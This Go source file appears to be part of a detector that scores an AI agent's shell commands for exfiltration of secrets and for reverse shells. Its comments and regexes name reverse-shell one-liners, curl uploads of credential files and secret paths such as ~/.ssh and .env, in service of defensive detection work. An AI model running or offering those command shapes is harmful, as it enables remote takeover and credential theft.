package injrules

import "strings"

// The egress checks of Exfiltrate (issue 27, agent egress): a command
// line an agent is about to run that sends a local secret off the
// machine, or hands the machine's shell to a remote host. Each is read on
// the line of its anchor, a network tool (curl, wget, nc, ncat, netcat,
// socat, scp, rsync, dig, nslookup, Invoke-WebRequest, Invoke-RestMethod,
// iwr), a reverse shell's /dev/tcp/ or a script's dup2, environ or
// readFileSync, and needs two things on that line:
//
//   - a source: a secret file (the read_secret rule's names: ~/.ssh keys
//     but not their .pub halves, ~/.aws, .env, .netrc, .npmrc, .kube/config,
//     /etc/passwd and /etc/shadow …, plus /proc/self/environ, a Kubernetes
//     service-account token, gh and gcloud credentials) or the whole
//     environment (env | …, $(env), printenv, os.environ, process.env);
//   - a way out: the anchor itself, as the receiving end of a pipe or
//     given the source as data (curl -d @file, -F f=@file, -T,
//     --data-binary, --upload-file, wget --post-file, -InFile), or a
//     command substitution inside its URL ($(cat ~/.aws/credentials)).
//
// A reverse shell needs no source: "bash -i >& /dev/tcp/host/port 0>&1",
// "nc … -e /bin/sh", a Python socket duplicated onto stdin. Install
// one-liners (curl … | sh) and uploads of ordinary files (curl -d
// @payload.json, -F file=@build.log) name no source and are left to the
// run_command rule. The window is one line of at most egressBack bytes
// before the anchor and egressFwd after it.
const (
	egressBack = 320
	egressFwd  = 400
)

// egressSource are the secret files and environment dumps a line may send.
var egressSource = re(`(?:~|\$home|\$\{home\}|/home/[\w.-]+|/root|\$env:userprofile|%userprofile%)[/\\]\.(?:ssh|aws|kube|gnupg|docker|netrc|npmrc|pypirc|git-credentials|config[/\\](?:gh|gcloud))\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|/etc/(?:passwd|shadow|sudoers)\b|/proc/self/environ|serviceaccount/token|\.aws/credentials|\.git-credentials|(?:^|[\s@'"=/<])\.env\b|\b(?:env|printenv)\s*\||\$\((?:env|printenv|set)\)|\bos\.environ\b|\bprocess\.env\b`)

// egressReverse are the shapes of a reverse shell.
var egressReverse = re(`\b(?:ba|z|da)?sh\s+-i\s*[<>&]+\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[\w.-]+/\d+\s+0\s*>&\s*1|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}?\s-(?:e|c)\s*/bin/(?:ba|z|da)?sh\b|\bsocket\b[^\n]{0,200}?\bconnect\b[^\n]{0,200}?\b(?:dup2|pty\.spawn)\b`)

// egressSink says the line sends: a pipe into a network tool, the tool
// given a file or its standard input as data, or a substitution in the
// tool's URL or name argument.
var egressSink = re(`\|\s*(?:[^|\n]{0,80}\|\s*){0,3}(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl\s+s_client)\b|\b(?:curl|wget)\b[^\n|;]{0,200}?(?:\s-(?:d|f|t)|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file|--post-file|--post-data|--body-file)[\s=]*['"]?(?:[\w-]+=)?[@<]?|\b(?:curl|wget|dig|nslookup|host|ping)\b[^\n|;]{0,200}?\$\(|-infile\b|\b(?:scp|rsync)\b[^\n|;]{0,160}?\s\S+@?[\w.-]+:\S*|\brequests\.(?:post|put)\b|\burlopen\b|\bhttps?\.request\b|\bfetch\(|\b(?:dig|nslookup)\b`)

// egressLine scores the anchor's line: from the line's start (at most
// egressBack bytes before the anchor at m[0]) to its end (at most
// egressFwd bytes after the anchor); the check's expression matches the
// anchor's first byte only, so that the engine's match costs nothing. A reverse shell scores 0.9, a line
// that sends a source out 0.85, both strong; m is set to the line. Cheap
// substring tests run before the expressions, so that an anchor in prose
// ("dig into", os.Environ in Go code) costs a few scans of one line.
func egressLine(lo string, m []int) (float64, bool) {
	at := m[0]
	ls := at - min(at, egressBack)
	if k := strings.LastIndexByte(lo[ls:at], '\n'); k >= 0 {
		ls += k + 1
	}
	le := min(len(lo), at+egressFwd)
	if k := strings.IndexByte(lo[at:le], '\n'); k >= 0 {
		le = at + k
	}
	m[1] = le
	line := lo[ls:le]
	if len(line) < 8 {
		return 0, false
	}
	if containsAny(line, reverseMarks) && egressReverse.MatchString(line) {
		m[0] = ls
		return 0.9, true
	}
	if !containsAny(line, sourceMarks) || !egressSink.MatchString(line) {
		return 0, false
	}
	for off := 0; off < len(line); {
		loc := egressSource.FindStringIndex(line[off:])
		if loc == nil {
			return 0, false
		}
		rest := line[off+loc[1]:]
		off += max(loc[1], 1)
		if strings.HasPrefix(rest, ".pub") || strings.HasPrefix(rest, "_") {
			continue // a public key, or a longer name
		}
		m[0] = ls
		return 0.85, true
	}
	return 0, false
}

// reverseMarks and sourceMarks are substrings every reverse shell and
// every egressSource match hold.
var (
	reverseMarks = []string{"/dev/tcp/", "/dev/udp/", " -e", " -c", "dup2", "pty.spawn"}
	sourceMarks  = []string{".ssh", ".aws", ".kube", ".gnupg", ".docker", ".netrc", ".npmrc", ".pypirc", ".git-credentials",
		".config", "id_", "/etc/", "/proc/", "serviceaccount", ".env", "env", "environ", "$(set)"}
)

// egressChecks are this file's checks.
var egressChecks = map[string]check{
	"egress": {Exfiltrate, re(`^.`), 0, egressFwd, egressLine},
}

// egressAnchors are the words that start the egress check.
var egressAnchors = []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "rsync", "dig", "nslookup",
	"invoke-webrequest", "invoke-restmethod", "iwr", "dup2", "environ", "readfilesync"}

var _ = mergeEgress()

// mergeEgress adds the egress check to the engine's tables the way
// mergeJail does: a word that already anchors checks keeps them and its
// next-word set, and gains this one.
func mergeEgress() bool {
	addChecks(egressChecks)
	for _, w := range egressAnchors {
		old, ok := wordAnchors[w]
		if !ok {
			wordAnchors[w] = anchor{[]string{"egress"}, ""}
			continue
		}
		if old.next != "" {
			panic("injrules: egress anchor " + w + " has a next-word set")
		}
		wordAnchors[w] = anchor{append(append([]string{}, old.checks...), "egress"), ""}
	}
	pipe := checks["pipe"]
	pipe.conf = pipeConf
	checks["pipe"] = pipe
	symbolAnchors = append(symbolAnchors, struct {
		prefix string
		checks []string
	}{"/dev/tcp/", []string{"egress"}}, struct {
		prefix string
		checks []string
	}{"/dev/udp/", []string{"egress"}})
	return true
}

// pipeConf scores the run_command rule's curl … | sh (rules.go's "pipe")
// by where the script comes from (issue 27, agent egress: "package-install
// one-liners from official hosts" are benign look-alikes): a script
// fetched over https from a named host ("curl -fsSL https://sh.rustup.rs
// | sh", the install line of most toolchains) is a weak hint, 0.45, below
// the floor; from an address, over plain http, from a paste or file-drop
// site, or from a URL hidden in a variable, it keeps 0.55.
func pipeConf(lo string, m []int) (float64, bool) {
	w := lo[m[0]:m[1]]
	k := strings.Index(w, "https://")
	if k < 0 || strings.Contains(w, "http://") {
		return 0.55, false
	}
	host := w[k+len("https://"):]
	if e := strings.IndexAny(host, "/:?#'\" \t|"); e >= 0 {
		host = host[:e]
	}
	if host == "" || strings.Trim(host, "0123456789.") == "" || strings.ContainsAny(host, "[@$") {
		return 0.55, false
	}
	for _, p := range untrustedScriptHosts {
		if host == p || strings.HasSuffix(host, "."+p) {
			return 0.55, false
		}
	}
	return 0.45, false
}

// untrustedScriptHosts are paste, file-drop and tunnel hosts: anyone can
// put a script there, so a pipe from them keeps its weight.
var untrustedScriptHosts = []string{"pastebin.com", "paste.ee", "ghostbin.co", "hastebin.com", "termbin.com",
	"transfer.sh", "0x0.st", "file.io", "ix.io", "sprunge.us", "dpaste.com", "dpaste.org", "rentry.co",
	"gist.githubusercontent.com", "ngrok.io", "ngrok-free.app", "ngrok.app", "trycloudflare.com", "loca.lt", "serveo.net"}
